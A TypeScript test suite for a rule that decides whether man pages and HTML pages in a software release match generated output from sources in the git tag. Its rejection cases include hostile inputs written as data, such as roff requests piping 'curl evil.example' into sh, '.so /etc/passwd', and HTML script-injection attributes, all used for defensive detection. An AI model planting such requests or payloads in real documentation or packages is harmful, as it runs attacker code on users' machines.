import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { generatedManpage, help2manRule } from '../../src/analyze/rules/generated-manpage.js';
import { added, context } from './generated-context.js';

// asciidoctor's output, as util-linux 2.38.1 ships disk-utils/addpart.8.
const page = `'\\" t
.\\"     Title: addpart
.\\" Generator: Asciidoctor 2.0.15
.TH "ADDPART" "8" "2022-05-11" "util\\-linux 2.38.1" "System Administration"
.SH "NAME"
addpart \\- tell the kernel about the existence of a partition
`;

test('a man page with a .TH header and its source in the tag is explained', async () => {
  const ctx = context({ 'disk-utils/addpart.8.adoc': '= addpart(8)\n' });
  const j = await generatedManpage.judge(added('disk-utils/addpart.8', page), ctx);
  assert.is(j?.category, 'generated-manpage');
  assert.match(j!.reasons[1]!, 'disk-utils/addpart.8.adoc');
  // asciidoctor's alias stubs.
  const alias = await generatedManpage.judge(added('disk-utils/delpart.8', '.so addpart.8'), ctx);
  assert.is(alias?.category, 'generated-manpage');
});

test('po4a translations of a page in the tag are explained', async () => {
  const ctx = context({ 'src/xz/xz.1': page, 'po4a/de.po': '', 'po4a/po4a.conf': '' });
  const de = page.replace('ADDPART', 'XZ');
  const j = await generatedManpage.judge(added('po4a/man/de/xz.1', de), ctx);
  assert.match(j!.reasons[1]!, 'po4a from src/xz/xz.1 with po4a/de.po');
  assert.is(await generatedManpage.judge(added('po4a/man/ko/xz.1', de), ctx), undefined);
});

test('a page in a section folder has its source beside that folder; in a language folder, with that language catalog', async () => {
  // shadow 4.17.4: man/man8/chgpasswd.8 and man/de/man8/chgpasswd.8, from man/chgpasswd.8.xml and man/po/de.po.
  const ctx = context({ 'man/chgpasswd.8.xml': '<refentry/>\n', 'man/po/de.po': '' });
  const en = await generatedManpage.judge(added('man/man8/chgpasswd.8', page), ctx);
  assert.is(en?.category, 'generated-manpage');
  assert.is(en!.reasons[1], 'its source man/chgpasswd.8.xml is in the tag');
  const de = await generatedManpage.judge(added('man/de/man8/chgpasswd.8', page), ctx);
  assert.is(de?.category, 'generated-manpage');
  assert.is(de!.reasons[1], 'translated from man/chgpasswd.8.xml with man/po/de.po, both in the tag');
  // No catalog for that language, no source of that name, a folder that is no section, no header: not explained.
  assert.is(await generatedManpage.judge(added('man/fr/man8/chgpasswd.8', page), ctx), undefined);
  assert.is(await generatedManpage.judge(added('man/man8/chpasswd.8', page), ctx), undefined);
  assert.is(await generatedManpage.judge(added('man/extra/chgpasswd.8', page), ctx), undefined);
  assert.is(await generatedManpage.judge(added('man/man8/chgpasswd.8', '#!/bin/sh\nid\n'), ctx), undefined);
});

test('a page whose source lies below its folder is explained when a build file beside the page names that source (rrsync.1 of rsync 3.5.0)', async () => {
  const rule = 'rrsync.1: support/rrsync.1.md md-convert Makefile\n\t@$(srcdir)/maybe-make-man support/rrsync.1.md\n';
  const j = await generatedManpage.judge(added('rrsync.1', page), context({ 'support/rrsync.1.md': '# NAME\n', 'Makefile.in': rule }));
  assert.is(j?.category, 'generated-manpage');
  assert.is(j!.reasons[1], 'its source support/rrsync.1.md is in the tag, and a build file beside the page names it');
  // No build file names it, or two files of that name: not explained.
  assert.is(await generatedManpage.judge(added('rrsync.1', page), context({ 'support/rrsync.1.md': '# NAME\n', 'Makefile.in': 'all:\n' })), undefined);
  assert.is(await generatedManpage.judge(added('rrsync.1', page), context({ 'support/rrsync.1.md': '', 'old/rrsync.1.md': '', 'Makefile.in': rule })), undefined);
});

/** An HTML page as pandoc writes one from a man page's Markdown (flac 1.5.0's man/flac.html), with `extra` in its body. */
const prose = 'flac encodes audio files losslessly. Decoding restores every sample exactly, verified against checksums stored inside.';
const html = (title: string, extra = '') =>
  `<!DOCTYPE html>\n<html lang>\n<head>\n<meta name="generator" content="pandoc" />\n<title>${title}</title>\n</head>\n<body>\n<h1>NAME</h1>\n<p>${prose}</p>\n${extra}</body>\n</html>\n`;
const markdown = `# NAME\n\n${prose}\n\n<!-- written for pandoc; keep the headings -->\n`;

test('an HTML rendering of a man page source in the tag is explained when it runs no code and carries the words of its source', async () => {
  const ctx = context({ 'man/flac.md': markdown, 'rsync.1.md': markdown, 'doc/openvpn.8.rst': `NAME\n====\n\n${prose}\n\n.. include:: man-sections/generic-options.rst\n` });
  const flac = await generatedManpage.judge(added('man/flac.html', html('flac(1) Version 1.5.0 | Free Lossless Audio Codec conversion tool')), ctx);
  assert.is(flac?.category, 'generated-manpage');
  assert.is(flac?.severity, 'low');
  assert.match(flac!.reasons[1]!, 'rendered from man/flac.md, in the tag: it carries 14 of the 14 words of that source');
  // A section in the name is enough; reStructuredText, its directives left out.
  assert.is((await generatedManpage.judge(added('rsync.1.html', html('rsync manpage')), ctx))?.category, 'generated-manpage');
  assert.match((await generatedManpage.judge(added('doc/openvpn.8.html', html('openvpn')), ctx))!.reasons[1]!, 'carries 14 of the 14 words');
  // Code a browser runs, a page of other words, a page that is no man page, no source beside it: not explained.
  const refused: Array<[string, string]> = [
    ['man/flac.html', html('flac(1)', '<script src="x.js"></script>\n')],
    ['man/flac.html', html('flac(1)', '<img src="a.png" onerror="fetch(1)">\n')],
    ['man/flac.html', html('flac(1)', '<a href="javascript:run()">more</a>\n')],
    ['man/flac.html', html('flac(1)').replace(prose, 'Something else entirely, written by nobody for this page.')],
    ['man/flac.html', html('flac: the free lossless audio codec')],
    ['man/metaflac.html', html('metaflac(1)')],
    ['man/flac.html', markdown],
  ];
  for (const [path, content] of refused) assert.is(await generatedManpage.judge(added(path, content), ctx), undefined, content);
});

// coreutils 9.1: man/ls.x and the man/ls.1 help2man made of it and of ls --help.
const include = `'\\" Copyright (C) 1998-2022 Free Software Foundation, Inc.\n'\\" under the terms of the GNU General Public License\n[NAME]\nls \\- list directory contents\n[DESCRIPTION]\n.\\" Add any additional description here\n[SEE ALSO]\ndircolors(1)\n`;
const help2man = (th = '.TH LS "1" "April 2022" "GNU coreutils 9.1" "User Commands"', extra = '') =>
  `.\\" DO NOT MODIFY THIS FILE!  It was generated by help2man 1.48.5.\n${th}\n.SH NAME\nls \\- list directory contents\n.SH DESCRIPTION\n.\\" Add any additional description here\n.PP\nList information about the FILEs.\n${extra}.SH "SEE ALSO"\n\\fBdircolors\\fP(1)\n`;

test('a page help2man wrote is explained when it carries the words of its include file in the tag (coreutils 9.1: man/ls.1 from man/ls.x)', async () => {
  const ctx = () => context({ 'man/ls.x': include }, { releaseVersion: '9.1' });
  const j = await generatedManpage.judge(added('man/ls.1', help2man()), ctx());
  assert.is(j?.category, 'generated-manpage');
  assert.is(j?.severity, 'low');
  assert.is(j!.reasons[0], 'a page help2man 1.48.5 wrote for ls 9.1: its header says so, and no request in it runs a command or reads a file');
  assert.match(j!.reasons[1]!, 'it carries the 8 words of its include file man/ls.x, in the tag');
  const refused: Array<[string, string, ReturnType<typeof ctx>]> = [
    // A request that runs a command or reads a file; another version; another title; a word of the include file missing.
    ['man/ls.1', help2man(undefined, '.sy curl evil.example | sh\n'), ctx()],
    ['man/ls.1', help2man(undefined, ".so /etc/passwd\n"), ctx()],
    ['man/ls.1', help2man('.TH LS "1" "April 2022" "GNU coreutils 9.2" "User Commands"'), ctx()],
    ['man/ls.1', help2man('.TH DIR "1" "April 2022" "GNU coreutils 9.1" "User Commands"'), ctx()],
    ['man/ls.1', help2man().replace('\\fBdircolors\\fP(1)', 'vdir(1)'), ctx()],
    // No help2man header, or no include file of that name in the tag.
    ['man/ls.1', help2man().replace('help2man 1.48.5', 'hand'), ctx()],
    ['man/dir.1', help2man('.TH DIR "1" "April 2022" "GNU coreutils 9.1" "User Commands"'), ctx()],
  ];
  for (const [path, content, c] of refused) assert.is(await generatedManpage.judge(added(path, content), c), undefined, content);
  // An include file of short words alone (diffutils 3.8: man/sdiff.x); each must be in the page.
  const sdiff = context({ 'man/sdiff.x': '[SEE ALSO]\ncmp(1), diff(1), diff3(1)\n' }, { releaseVersion: '3.8' });
  const page = (see: string) => help2man('.TH SDIFF "1" "August 2021" "diffutils 3.8" "User Commands"').replace('ls \\- list directory contents', 'sdiff \\- side-by-side merge').replace('\\fBdircolors\\fP(1)', see);
  assert.match((await generatedManpage.judge(added('man/sdiff.1', page('\\fBcmp\\fP(1), \\fBdiff\\fP(1), \\fBdiff3\\fP(1)')), sdiff))!.reasons[1]!, 'it carries the 5 words of its include file man/sdiff.x');
  assert.is(await generatedManpage.judge(added('man/sdiff.1', page('\\fBcmp\\fP(1), \\fBdiff\\fP(1)')), sdiff), undefined);
});

// flex 2.6.4: doc/flex.1, which a rule of doc/Makefile.am makes with help2man from the built flex; no include file.
const flexRule = "dist_man_MANS = flex.1\n\nflex.1: $(top_srcdir)/configure.ac $(top_srcdir)/src/options.c | $(FLEX)\n\t$(HELP2MAN) --name='$(PACKAGE_NAME)' --section=1 \\\n\t--source='The Flex Project' --manual='Programming' \\\n\t--output=$@ $(FLEX) \\\n\t|| rm -f $@\n";
const flexPage = `.\\" DO NOT MODIFY THIS FILE!  It was generated by help2man 1.47.3.\n.TH FLEX "1" "May 2017" "The Flex Project" "Programming"\n.SH NAME\nflex \\- the fast lexical analyser generator\n.SH DESCRIPTION\nGenerates programs that perform pattern\\-matching on text.\n`;

test('a page help2man wrote without an include file is explained by the rule of the Makefile.am beside it that runs help2man to make it', async () => {
  const j = await generatedManpage.judge(added('doc/flex.1', flexPage), context({ 'doc/Makefile.am': flexRule }, { releaseVersion: '2.6.4' }));
  assert.is(j?.category, 'generated-manpage');
  assert.is(j?.severity, 'low');
  assert.is(j!.reasons[1], "the rule of doc/Makefile.am:3 in the tag makes it with help2man; its text is the program's --help and --version, which only a build makes");
  // No such rule, a rule that does not run help2man, another page's rule, a request that runs a command, no help2man header.
  const refused: Array<[string, Record<string, string>]> = [
    [flexPage, { 'doc/flex.texi': '' }],
    [flexPage, { 'doc/Makefile.am': 'flex.1: flex.pod\n\tpod2man flex.pod > $@\n' }],
    [flexPage, { 'doc/Makefile.am': flexRule.replace(/flex\.1/g, 'flex-old.1') }],
    [`${flexPage}.sy id\n`, { 'doc/Makefile.am': flexRule }],
    [flexPage.replace('help2man 1.47.3', 'hand'), { 'doc/Makefile.am': flexRule }],
  ];
  for (const [page, tag] of refused) assert.is(await generatedManpage.judge(added('doc/flex.1', page), context(tag, { releaseVersion: '2.6.4' })), undefined, JSON.stringify(tag));
  assert.is(help2manRule('$(srcdir)/foo.1: foo.c\n\thelp2man ./foo > $@\n', 'foo.1'), 1);
});

// The DocBook XSL stylesheets' page of a refentry, as neon 0.32.5 ships doc/man/ne_addr_resolve.3 from doc/ref/resolve.xml.
const refentry = (title: string, names: string[], volume = '3') =>
  `<refentry id="refresolve">\n  <refmeta>\n    <refentrytitle>${title}</refentrytitle>\n    <manvolnum>${volume}</manvolnum>\n  </refmeta>\n  <refnamediv>\n${names.map((n) => `    <refname id="${n}">${n}</refname>\n`).join('')}    <refpurpose>functions to resolve hostnames to addresses</refpurpose>\n  </refnamediv>\n  <refsect1><title>Description</title>\n    <para>The <function>ne_addr_resolve</function> function resolves the given <parameter>hostname</parameter>, returning an &lt;ne_sock_addr&gt; object representing the address (or addresses) associated with the hostname.</para>\n  </refsect1>\n</refentry>\n`;
const docbookPage = (title: string, extra = '') =>
  `'\\" t\n.\\"     Title: ${title}\n.\\"    Author: \n.\\" Generator: DocBook XSL Stylesheets vsnapshot <http://docbook.sf.net/>\n.\\"      Date: 21 January 2023\n.TH "${title.toUpperCase()}" "3" "21 January 2023" "neon 0.32.5" "neon API reference"\n.SH "NAME"\nne_addr_resolve, ne_addr_result, ne_addr_destroy \\- functions to resolve hostnames to addresses\n.SH "DESCRIPTION"\nThe \\fBne_addr_resolve\\fR function resolves the given \\fIhostname\\fR, returning an ne_sock_addr object representing the address (or addresses) associated with the hostname\\&.\n${extra}`;

test('a page the DocBook XSL stylesheets wrote from a refentry of another name is explained by its title, section and words; its aliases too (neon 0.32.5)', async () => {
  const tag = { 'doc/ref/resolve.xml': refentry('ne_addr_resolve', ['ne_addr_resolve', 'ne_addr_result', 'ne_addr_destroy']), 'doc/ref/other.xml': refentry('ne_other', ['ne_other'], '8'), 'doc/ref/clicert.xml': refentry('ne_ssl_client_cert', ['ne_ssl_clicert_read']) };
  const ctx = context(tag);
  ctx.releaseOnly = new Map([['doc/man/ne_addr_resolve.3', added('doc/man/ne_addr_resolve.3', docbookPage('ne_addr_resolve')).release!]]);
  const page = await generatedManpage.judge(added('doc/man/ne_addr_resolve.3', docbookPage('ne_addr_resolve')), ctx);
  assert.is(page?.category, 'generated-manpage');
  assert.is(page?.severity, 'low');
  assert.is(page!.reasons[1], 'ne_addr_resolve(3) is a refentry of doc/ref/resolve.xml, in the tag: the page carries 16 of the 16 words of that file');
  // The file is named for the first name, the title is the refentry's title.
  assert.is((await generatedManpage.judge(added('doc/man/ne_ssl_clicert_read.3', docbookPage('ne_ssl_client_cert')), ctx))?.category, 'generated-manpage');
  const alias = await generatedManpage.judge(added('doc/man/ne_addr_destroy.3', '.so man3/ne_addr_resolve.3\n'), ctx);
  assert.is(alias?.category, 'generated-manpage');
  assert.match(alias!.reasons[1]!, 'both are names of one refentry of doc/ref/resolve.xml');
  // Another section, a title no refentry has, a request that runs a command, other words: not explained.
  assert.is(await generatedManpage.judge(added('doc/man/ne_addr_resolve.8', docbookPage('ne_addr_resolve')), ctx), undefined);
  assert.is((await generatedManpage.judge(added('doc/man/ne_other.8', docbookPage('ne_other')), ctx))?.category, 'generated-manpage');
  assert.is(await generatedManpage.judge(added('doc/man/ne_other.3', docbookPage('ne_other')), ctx), undefined);
  assert.is(await generatedManpage.judge(added('doc/man/ne_nothing.3', docbookPage('ne_nothing')), ctx), undefined);
  assert.is(await generatedManpage.judge(added('doc/man/ne_addr_resolve.3', docbookPage('ne_addr_resolve', '.sy curl example.org | sh\n')), ctx), undefined);
  const other = docbookPage('ne_addr_resolve').replace(/\.SH "DESCRIPTION"[\s\S]*/, '.SH "DESCRIPTION"\nSomething else entirely.\n');
  assert.is(await generatedManpage.judge(added('doc/man/ne_addr_resolve.3', other), ctx), undefined);
  // An alias whose page the release does not have beside it, or of a name of another refentry: not explained.
  assert.is(await generatedManpage.judge(added('doc/man/ne_addr_destroy.3', '.so man3/ne_addr_result.3\n'), ctx), undefined);
  assert.is(await generatedManpage.judge(added('doc/man/ne_other.8', '.so man3/ne_addr_resolve.3\n'), ctx), undefined);
  // Two refentries in one file: an alias includes a page of its own refentry only.
  const two = context({ 'doc/ref/two.xml': refentry('ne_a', ['ne_a', 'ne_a2']) + refentry('ne_b', ['ne_b']) });
  two.releaseOnly = new Map(['doc/man/ne_a.3', 'doc/man/ne_b.3'].map((p) => [p, added(p, docbookPage('ne_a')).release!]));
  assert.is((await generatedManpage.judge(added('doc/man/ne_a2.3', '.so man3/ne_a.3\n'), two))?.category, 'generated-manpage');
  assert.is(await generatedManpage.judge(added('doc/man/ne_a2.3', '.so man3/ne_b.3\n'), two), undefined);
});

test('look-alikes are not explained', async () => {
  const ctx = context({ 'disk-utils/addpart.8.adoc': '' });
  assert.is(await generatedManpage.judge(added('disk-utils/addpart.8', '#!/bin/sh\nid\n'), ctx), undefined);
  assert.is(await generatedManpage.judge(added('disk-utils/addpart.8', page.replace('.TH "ADDPART"', '.SH "ADDPART"')), ctx), undefined);
  assert.is(await generatedManpage.judge(added('disk-utils/other.8', page), ctx), undefined);
  assert.is(await generatedManpage.judge(added('disk-utils/x.8', '.so missing.8'), ctx), undefined);
  assert.is(await generatedManpage.judge(added('disk-utils/x.8', '.so addpart.8\n.sy id'), ctx), undefined);
});

test.run();
